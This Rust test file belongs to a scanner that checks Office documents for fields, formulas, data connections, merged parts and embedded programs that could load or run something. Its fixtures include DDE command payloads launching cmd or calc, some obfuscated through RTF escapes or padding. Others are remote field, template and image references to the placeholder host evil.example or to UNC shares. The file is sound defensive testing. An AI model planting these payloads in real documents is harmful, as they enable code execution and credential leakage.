//! What could load or run something: fields, formulas, connections, merged parts, programs.

use base64::Engine;
use base64::engine::general_purpose::STANDARD;
use dossier_worker::document::{Policy, Verdict};

use super::builder::Opc;
use super::{code, verdict, verdict_by};

fn flags(verdict: &Verdict) -> Vec<&'static str> {
    verdict
        .facts()
        .flags
        .iter()
        .map(|flag| flag.as_str())
        .collect()
}

/// Flagged by the standard policy, and refused with that code by the strict one.
fn assert_flagged(bytes: &[u8], kind: &str, flag: &str, strict: &str) {
    let found = verdict(bytes);
    assert_eq!(code(&found), kind, "{found:?}");
    assert!(flags(&found).contains(&flag), "{found:?}");
    assert_eq!(code(&verdict_by(bytes, &Policy::strict())), strict);
}

/// A Word document with a field.
fn with_field(instruction: &str) -> Vec<u8> {
    Opc::docx_with(&format!(
        "<w:r><w:fldChar w:fldCharType=\"begin\"/></w:r><w:r><w:instrText>{instruction}</w:instrText></w:r>\
         <w:r><w:fldChar w:fldCharType=\"separate\"/></w:r><w:r><w:t>x</w:t></w:r>\
         <w:r><w:fldChar w:fldCharType=\"end\"/></w:r>"
    ))
    .bytes()
}

/// A Word document with a part in another format.
fn with_chunk(name: &str, content: &str) -> Vec<u8> {
    let extension = name.rsplit('.').next().unwrap_or_default();
    Opc::docx()
        .part(&format!("word/{name}"), content)
        .default(extension, "application/octet-stream")
        .relate("word/document.xml", "aFChunk", name)
        .bytes()
}

/// A workbook with a sheet.
fn with_sheet(content: &str) -> Vec<u8> {
    let xml = format!(
        "<worksheet xmlns=\"http://schemas.openxmlformats.org/spreadsheetml/2006/main\">{content}</worksheet>"
    );
    Opc::xlsx().part("xl/worksheets/sheet1.xml", xml).bytes()
}

#[test]
fn a_charts_workbook_elsewhere_is_a_link() {
    for target in [
        "https://contoso.example/Book.xlsx",
        "file:///C:/Book.xlsx",
        "\\\\host\\Book.xlsx",
    ] {
        let package = Opc::pptx()
            .part("ppt/charts/chart1.xml", "<c/>")
            .relationship("ppt/charts/chart1.xml", "oleObject", target, "External");
        assert_flagged(&package.bytes(), "pptx", "external_link", "EXTERNAL_REF");
    }
    let slide = Opc::pptx()
        .part("ppt/slides/slide1.xml", "<s/>")
        .relationship(
            "ppt/slides/slide1.xml",
            "oleObject",
            "https://contoso.example/Book.xlsx",
            "External",
        );
    assert_eq!(code(&verdict(&slide.bytes())), "EXTERNAL_REF");
}

#[test]
fn fields_that_load_from_another_computer_are_flagged() {
    for instruction in [
        " LINK Excel.Sheet.12 \"http://evil.example/x.xlsx\" \"Sheet1!R1C1\" \\a \\t ",
        " INCLUDEPICTURE \"\\\\\\\\evil.example\\\\s\\\\x.png\" \\d ",
        "includetext \\\\evil.example\\s\\x.docx",
        "DATABASE \\d \"\\\\\\\\evil.example\\\\s\\\\x.mdb\" \\c \"DSN=a\"",
        "RD \\\\evil.example\\s\\x.docx",
        "IMPORT &quot;file://evil.example/s/x.png&quot;",
        "INCLUDEPICTURE                                                  https://evil.example/p",
    ] {
        assert_flagged(
            &with_field(instruction),
            "docx",
            "remote_field",
            "EXTERNAL_REF",
        );
    }
}

#[test]
fn fields_that_stay_on_this_computer_are_not_flagged() {
    for instruction in [
        "INCLUDEPICTURE \"C:\\\\Pictures\\\\x.png\" \\d",
        "INCLUDEPICTURE \"media/x.png\" \\* MERGEFORMAT",
        "LINK Excel.Sheet.12 \"Book1.xlsx\" \"Sheet1!R1C1:R2C2\" \\a",
        "HYPERLINK \"http://example.com/\"",
        "PAGE",
    ] {
        let found = verdict(&with_field(instruction));
        assert_eq!(
            (code(&found), flags(&found).len()),
            ("docx", 0),
            "{instruction}"
        );
    }
}

#[test]
fn a_long_row_of_spaces_hides_no_dde_field() {
    let spaces = " ".repeat(20_000);
    assert_eq!(
        code(&verdict(&with_field(&format!(
            "{spaces}DDEAUTO{spaces}cmd"
        )))),
        "DDE"
    );
}

#[test]
fn formulas_that_start_a_conversation_are_refused() {
    for formula in [
        "cmd|'/c calc.exe'!A0",
        "1+cmd|' /C calc'!A0",
        "MSEXCEL|'\\..\\..\\..\\Windows\\System32\\cmd.exe'!''",
        "'cmd'|'/c calc'!A0",
        "rundll32|topic!item",
        "IF(A1,cmd|'/c calc'!_xlbgnm.A1,0)",
    ] {
        let cell = format!("<sheetData><row><c r=\"A1\"><f>{formula}</f></c></row></sheetData>");
        assert_eq!(code(&verdict(&with_sheet(&cell))), "DDE", "{formula}");
    }
    let name = with_sheet(
        "<definedNames><definedName name=\"a\">cmd|'/c calc'!A0</definedName></definedNames>",
    );
    assert_eq!(code(&verdict(&name)), "DDE");
    let total = with_sheet("<totalsRowFormula>cmd|'/c calc'!A0</totalsRowFormula>");
    assert_eq!(code(&verdict(&total)), "DDE");
    let split = with_sheet("<f>cmd|<!-- -->'/c calc'&#33;A0</f>");
    assert_eq!(code(&verdict(&split)), "DDE");
}

#[test]
fn formulas_with_bars_in_text_and_names_are_accepted() {
    for formula in [
        "\"a|b!c\"",
        "'x|y'!A1",
        "Table1[a|b]&amp;Sheet1!A1",
        "SUBSTITUTE(A1,\"|\",Sheet2!B1)",
        "Sheet1!A1",
        "SUM(Sheet1:Sheet3!A1)",
    ] {
        let found = verdict(&with_sheet(&format!("<f>{formula}</f>")));
        assert_eq!(code(&found), "xlsx", "{formula}");
    }
}

#[test]
fn connections_to_the_web_and_to_databases_are_flagged() {
    let connections = |content: &str| {
        let xml = format!(
            "<connections xmlns=\"http://schemas.openxmlformats.org/spreadsheetml/2006/main\" xmlns:x=\"urn:x\">{content}</connections>"
        );
        Opc::xlsx().part("xl/connections.xml", xml).bytes()
    };
    for content in [
        "<webPr url=\"http://evil.example/q.htm\"/>",
        "<dbPr connection=\"Provider=MSDASQL;Server=evil.example\"/>",
        "<textPr sourceFile=\"\\\\evil.example\\a.csv\"/>",
        "<connection><x:dataFeedPr connection=\"Data Source=http://evil.example/\"/></connection>",
        "<connection odcFile=\"\\\\evil.example\\s\\a.odc\"/>",
        "<connection sourceFile=\"http://evil.example/a.mdb\"/>",
    ] {
        assert_flagged(
            &connections(content),
            "xlsx",
            "external_connection",
            "EXTERNAL_REF",
        );
    }
    for content in [
        "<dbPr connection=\"Data Model Connection\"/>",
        "<textPr sourceFile=\"C:\\a.csv\"/>",
        "<connection odcFile=\"C:\\Users\\a\\My Data Sources\\a.odc\"/>",
    ] {
        assert!(
            flags(&verdict(&connections(content))).is_empty(),
            "{content}"
        );
    }
}

#[test]
fn a_macro_sheet_is_refused_whatever_its_type() {
    let sheet = "<xm:macrosheet xmlns:xm=\"http://schemas.microsoft.com/office/excel/2006/main\"/>";
    let package = Opc::xlsx().part("xl/worksheets/sheet1.xml", sheet);
    assert_eq!(code(&verdict(&package.bytes())), "MACRO_ENABLED");
}

#[test]
fn merged_rich_text_is_flagged() {
    let text = "{\\rtf1\\ansi{\\field{\\*\\fldinst{PAGE}}{\\fldrslt 1}}{\\object{\\*\\objclass Word.Document.8}{\\*\\objdata 0105}}}";
    assert_flagged(
        &with_chunk("a.rtf", text),
        "docx",
        "alternative_format",
        "EMBEDDED_OBJECT",
    );
}

#[test]
fn merged_rich_text_that_starts_a_conversation_is_refused() {
    for field in [
        "{\\field{\\*\\fldinst{ DDEAUTO c:\\\\\\\\cmd.exe \"/k calc\" }}{\\fldrslt x}}",
        "{\\field{\\*\\fldinst DD{}EAUTO cmd}}",
        "{\\field\\fldedit{\\*\\fldinst{\\'44\\'44\\'45 cmd}}}",
        "{\\field{\\*\\fldinst{\\u68?\\u68\\'3f\\u69?AUTO cmd}}}",
        "{\\field{\\*\\fldinst{\\uc2\\u68??D\r\nE cmd}}}",
        "{\\field{\\*\\fldinst{{\\field{\\*\\fldinst{QUOTE 68 68 69}}{\\fldrslt DDE}} cmd}}}",
        "{\\bin3 }{}{\\field{\\*\\fldinst{DDE cmd}}}",
    ] {
        let found = verdict(&with_chunk("a.rtf", &format!("{{\\rtf1{field}}}")));
        assert_eq!(code(&found), "DDE", "{field}");
    }
    let many = "{\\field{\\*\\fldinst{PAGE}}}".repeat(5_000);
    let found = verdict(&with_chunk("a.rtf", &format!("{{\\rtf1{many}}}")));
    assert_eq!(code(&found), "docx");
    let last = "{\\field{\\*\\fldinst{DDE cmd}}}";
    let found = verdict(&with_chunk("a.rtf", &format!("{{\\rtf1{many}{last}}}")));
    assert_eq!(code(&found), "DDE");
}

#[test]
fn merged_rich_text_with_foreign_objects_is_refused() {
    for object in [
        "{\\object\\objupdate{\\*\\objclass Word.Document.8}}",
        "{\\object{\\*\\objclass Package}}",
        "{\\object\\objemb{\\*\\objdata 0105}}",
        "{\\object{\\*\\objclass Word.Document.8}{\\*\\objdata 01050000\r\n02000000 08000000 5061636b61676500}}",
        "{\\object{\\*\\objdata 01050000020000000b0000004571756174696f6e2e3300",
    ] {
        let found = verdict(&with_chunk("a.rtf", &format!("{{\\rtf1{object}}}")));
        assert_eq!(code(&found), "EMBEDDED_OBJECT", "{object}");
    }
}

#[test]
fn merged_mails_are_decoded() {
    let mail = |encoding: &str, body: &str| {
        format!(
            "MIME-Version: 1.0\r\nContent-Type: text/html\r\nContent-Transfer-Encoding: {encoding}\r\n\r\n{body}"
        )
    };
    let encode = |page: &str| {
        let text = STANDARD.encode(page);
        let lines: Vec<&str> = text
            .as_bytes()
            .chunks(61)
            .map(|line| std::str::from_utf8(line).expect("text"))
            .collect();
        lines.join("\r\n")
    };
    let page = "<html><head><title>A page that is long enough</title></head><img src='\\\\evil.example\\x.png'></html>";
    for body in [
        mail("8bit", page),
        mail(
            "quoted-printable",
            "<img src=3D\"\\=\r\n\\evil.example\\x.png\">",
        ),
        mail("quoted-printable", "<img src=3D'=5C=5Cevil.example/x.png'>"),
        mail(
            "quoted-printable",
            "<img src=3D'fi= \r\nle://evil.example/x.png'>",
        ),
        mail("base64", &encode(page)),
        mail("base64", &encode("<img src='\\\\a\\b'>")),
        format!("{}\r\n--x--\r\n", mail("base64", &encode(page))),
    ] {
        let found = verdict(&with_chunk("a.mht", &body));
        assert_eq!(code(&found), "EXTERNAL_REF", "{body}");
    }
    let harmless =
        "<html><head><title>A page that is long enough</title></head><img src='cid:a'></html>";
    let picture = STANDARD.encode(
        [
            b"\x89PNG\r\n\x1a\n".to_vec(),
            b"='\\\\evil.example\\x'".repeat(30),
        ]
        .concat(),
    );
    for body in [
        mail("quoted-printable", "<p>a=3Db</p>"),
        mail("base64", &encode(harmless)),
        mail("base64", &picture),
    ] {
        assert_flagged(
            &with_chunk("a.mht", &body),
            "docx",
            "alternative_format",
            "EMBEDDED_OBJECT",
        );
    }
}

#[test]
fn merged_rich_text_is_recognised_however_little_comes_at_first() {
    let text = format!(
        "\u{FEFF}{}{{\\rtf1{{\\field{{\\*\\fldinst{{DDE cmd}}}}}}}}",
        " ".repeat(40_000)
    );
    let found = verdict(&with_chunk("a.rtf", &text));
    assert_eq!(code(&found), "DDE");
}

#[test]
fn merged_pages_are_flagged() {
    let page = "<html><body><img src=\"cid:1\"><a href='http://example.com/'>x</a></body></html>";
    assert_flagged(
        &with_chunk("a.htm", page),
        "docx",
        "alternative_format",
        "EMBEDDED_OBJECT",
    );
}

#[test]
fn merged_pages_with_sources_on_shares_are_refused() {
    for tag in [
        "<img src=\"\\\\evil.example\\s\\x.png\">",
        "<p title='it'></p>don't = ' <img src = \\\\evil.example\\x>",
        "<link href=file://evil.example/s.css>",
        "<img src=\"&#92;&#x5c;evil.example\\x.png\">",
        "<p style=\"background:url(\\\\evil.example\\x)\">",
        "<img src=' FILE:///C:/x.png'>",
    ] {
        let found = verdict(&with_chunk("a.htm", &format!("<html>{tag}</html>")));
        assert_eq!(code(&found), "EXTERNAL_REF", "{tag}");
    }
}

#[test]
fn scripts_and_shortcuts_are_programs() {
    for extension in [
        "lnk", "hta", "ps1", "js", "vbs", "bat", "cmd", "scr", "exe", "wsf",
    ] {
        let package = Opc::docx()
            .part(&format!("word/embeddings/a.{extension}"), "x")
            .default(extension, "application/octet-stream");
        assert_eq!(
            code(&verdict(&package.bytes())),
            "EMBEDDED_EXECUTABLE",
            "{extension}"
        );
    }
}

/// A program for Windows whose header is at `place`.
fn windows(place: usize) -> Vec<u8> {
    let mut bytes = vec![0; place + 40];
    bytes[..2].copy_from_slice(b"MZ");
    bytes[60..64].copy_from_slice(&u32::try_from(place).expect("small").to_le_bytes());
    bytes[place..place + 4].copy_from_slice(b"PE\0\0");
    bytes
}

#[test]
fn a_program_needs_the_whole_proof() {
    let picture = |content: Vec<u8>| {
        let package = Opc::docx().part("word/media/image1.png", content);
        code(&verdict(&package.default("png", "image/png").bytes()))
    };
    for place in [64, 128, 4_090, 4_096, 65_534, 65_536, 300_000] {
        assert_eq!(picture(windows(place)), "EMBEDDED_EXECUTABLE", "{place}");
    }
    let cut = windows(128)[..100].to_vec();
    let elsewhere = [b"MZ".to_vec(), vec![b'x'; 5_000]].concat();
    let short = b"MZ".to_vec();
    let elf_text = b"\x7FELF is a word, not a program".to_vec();
    let class = b"\xCA\xFE\xBA\xBE\0\0\0\0\0\0".to_vec();
    for content in [cut, elsewhere, short, elf_text, class] {
        assert_eq!(picture(content.clone()), "docx", "{:?}", content.get(..8));
    }
}

#[test]
fn an_obfuscated_font_is_no_program() {
    let package = Opc::docx().part("word/fonts/font1.odttf", windows(128));
    let font = "application/vnd.openxmlformats-officedocument.obfuscatedFont";
    assert_eq!(
        code(&verdict(&package.default("odttf", font).bytes())),
        "docx"
    );
}

#[test]
fn targets_are_read_as_parsers_of_urls_read_them() {
    for target in [
        "ht\ttp://evil.example/x",
        "ht\r\ntp://evil.example/x",
        "\u{200B}\u{FEFF}http://evil.example/x",
        "\u{1}\u{1F} http://evil.example/x",
        "file:////Library/s/x.dotm",
        "file:////Volumes/s/x.dotm",
        "fi\tle:////host/s/x.dotm",
    ] {
        let found = verdict(
            &Opc::docx()
                .relate_outside("attachedTemplate", target)
                .bytes(),
        );
        // The builder writes these as they are; a reader of XML makes spaces of some.
        let spelt = target
            .replace('\t', "&#9;")
            .replace('\r', "&#13;")
            .replace('\n', "&#10;");
        let code = code(&found);
        assert!(
            matches!(code, "EXTERNAL_REF" | "XML_MALFORMED"),
            "{spelt}: {code}"
        );
    }
}

#[test]
fn text_in_place_of_a_host_is_not_repeated() {
    for target in [
        "http://Please phone 0800 1234 and read them your code/x",
        "http://please-phone_0800/x",
        "http://evil.example\u{202E}moc/x",
        "\\\\call%20me\\x",
    ] {
        let found = verdict(
            &Opc::docx()
                .relate_outside("attachedTemplate", target)
                .bytes(),
        );
        let message = found.reason().expect("a rejection").message();
        assert!(message.contains("(an unnamed place)"), "{message}");
    }
    let found = verdict(
        &Opc::docx()
            .relate_outside("attachedTemplate", "http://bücher.example/x")
            .bytes(),
    );
    let message = found.reason().expect("a rejection").message();
    assert!(message.contains("(xn--bcher-kva.example)"), "{message}");
}
